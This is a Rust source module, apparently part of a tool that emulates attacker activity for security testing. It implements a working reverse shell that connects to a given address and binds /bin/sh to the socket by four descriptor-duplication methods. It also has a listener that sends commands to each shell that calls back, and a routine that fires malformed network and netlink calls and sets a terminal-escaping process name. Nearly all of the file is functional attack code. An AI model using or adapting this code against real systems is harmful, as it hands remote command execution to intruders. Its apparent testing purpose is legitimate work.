//! Shells on sockets, and the listener they call back to.

use super::Outcome;
use super::system::{Vector, check, execute, number};
use std::ffi::{OsStr, OsString};
use std::io::{self, Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::os::fd::RawFd;
use std::time::Duration;

/// Connects to IP:PORT and executes a shell whose standard streams are that socket, by one of four ways.
pub fn reverse_shell(operands: &[OsString]) -> Outcome {
    let address: Ipv4Addr = number(&operands[1])?;
    let port: u16 = number(&operands[2])?;
    let default = OsString::from("/bin/sh");
    let shell = operands.get(3).unwrap_or(&default);
    match operands[0].to_str() {
        Some("dup2") => {
            let socket = connect(address, port)?;
            for target in 0..3 {
                // SAFETY: dup2 has no memory arguments.
                check(unsafe { libc::dup2(socket, target) }.into())?;
            }
        }
        Some("dup3") => {
            let socket = connect(address, port)?;
            for target in 0..3 {
                // SAFETY: dup3 has no memory arguments.
                check(unsafe { libc::dup3(socket, target, 0) }.into())?;
            }
        }
        Some("fdupfd") => {
            let socket = connect(address, port)?;
            for target in 0..3 {
                // SAFETY: close and F_DUPFD have no memory arguments.
                check(unsafe { libc::close(target) }.into())?;
                // SAFETY: as above. The lowest free number is `target`, which was just closed.
                check(unsafe { libc::fcntl(socket, libc::F_DUPFD, target) }.into())?;
            }
        }
        Some("inherit") => {
            for target in 0..3 {
                // SAFETY: close has no memory arguments.
                check(unsafe { libc::close(target) }.into())?;
            }
            // With 0 to 2 closed, socket() itself returns 0, and the two duplicates get 1 and 2.
            let socket = connect(address, port)?;
            for _ in 0..2 {
                // SAFETY: dup has no memory arguments.
                check(unsafe { libc::dup(socket) }.into())?;
            }
        }
        _ => return Err(io::Error::new(io::ErrorKind::InvalidInput, "one of dup2, dup3, fdupfd, inherit")),
    }
    Err(execute(shell, &Vector::new([OsStr::new("sh")])?))
}

/// A raw socket(), because the standard library's sets close-on-exec, which no attacker would.
fn connect(address: Ipv4Addr, port: u16) -> io::Result<RawFd> {
    // SAFETY: socket has no memory arguments.
    let socket = check(unsafe { libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0) }.into())? as RawFd;
    let target = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: port.to_be(),
        sin_addr: libc::in_addr { s_addr: u32::from(address).to_be() },
        sin_zero: [0; 8],
    };
    let length = size_of::<libc::sockaddr_in>() as libc::socklen_t;
    // SAFETY: `target` is a whole sockaddr_in, `length` is its size.
    check(unsafe { libc::connect(socket, (&raw const target).cast(), length) }.into())?;
    Ok(socket)
}

/// Accepts connections on PORT for ever: sends the LINEs to each, prints what comes back.
///
/// Prints `listening PORT` when ready. Without LINEs it sends `id` and `exit`, so that a shell answers and ends.
pub fn listen(operands: &[OsString]) -> Outcome {
    let port: u16 = number(&operands[0])?;
    let lines: Vec<&OsStr> = match &operands[1..] {
        [] => vec![OsStr::new("id"), OsStr::new("exit")],
        lines => lines.iter().map(OsString::as_os_str).collect(),
    };
    let listener = TcpListener::bind((Ipv4Addr::UNSPECIFIED, port))?;
    say(format!("listening {port}\n").as_bytes())?;
    loop {
        let (stream, peer) = listener.accept()?;
        say(format!("accepted {peer}\n").as_bytes())?;
        // One caller that resets its connection must not end the listener for the next.
        if let Err(error) = serve(stream, &lines) {
            say(format!("lost {peer}: {error}\n").as_bytes())?;
        }
    }
}

fn serve(mut stream: TcpStream, lines: &[&OsStr]) -> io::Result<()> {
    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
    for line in lines {
        stream.write_all(line.as_encoded_bytes())?;
        stream.write_all(b"\n")?;
    }
    let mut buffer = [0; 4096];
    loop {
        match stream.read(&mut buffer)? {
            0 => return Ok(()),
            length => say(&buffer[..length])?,
        }
    }
}

fn say(text: &[u8]) -> io::Result<()> {
    let mut output = io::stdout().lock();
    output.write_all(text)?;
    output.flush()
}

/// Asks the network for what makes no sense: addresses that end too early, families that nobody knows, messages to the
/// packet filter that lie about their length; and takes a command name that would steer a terminal.
pub fn hostile(_: &[OsString]) -> Outcome {
    const NETFILTER: libc::c_int = 12;
    let mut refused = 0;
    let mut ask = |result: libc::c_long| refused += u32::from(result < 0);
    // SAFETY: sockets take no memory; every buffer below outlives its call and is at least as long as is said.
    unsafe {
        for family in [libc::AF_INET, libc::AF_INET6, libc::AF_NETLINK, 45, 99, -1] {
            let socket = libc::socket(
                family,
                libc::SOCK_DGRAM,
                if family == libc::AF_NETLINK { NETFILTER } else { 0 },
            );
            ask(socket.into());
            // The port says 10250, and the address is not there.
            let mut address = [0_u8; 128];
            address[..2].copy_from_slice(&(family as u16).to_ne_bytes());
            address[2..4].copy_from_slice(&10250_u16.to_be_bytes());
            for length in [0, 1, 2, 4, 15, 127] {
                ask(libc::connect(socket, address.as_ptr().cast(), length).into());
            }
            address[..2].copy_from_slice(&9999_u16.to_ne_bytes());
            ask(libc::connect(socket, address.as_ptr().cast(), 16).into());
            // Lengths of netlink messages: none, less than a header, more than there is, all there can be.
            for length in [0_u32, 3, 400, u32::MAX] {
                let mut message = [0xff_u8; 64];
                message[..4].copy_from_slice(&length.to_ne_bytes());
                for bytes in [0, 3, 5, 16, 64] {
                    ask(libc::send(socket, message.as_ptr().cast(), bytes, 0) as libc::c_long);
                }
            }
            libc::close(socket);
        }
        libc::prctl(libc::PR_SET_NAME, c"[\x1b[2J\x07\xc2\x9b31m\n".as_ptr());
    }
    println!("refused {refused}");
    Ok(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn connect_returns_a_descriptor_that_survives_exec() {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let socket = connect(Ipv4Addr::LOCALHOST, port).unwrap();
        // SAFETY: F_GETFD has no memory arguments.
        let flags = unsafe { libc::fcntl(socket, libc::F_GETFD) };
        assert_eq!(flags & libc::FD_CLOEXEC, 0);
    }
}
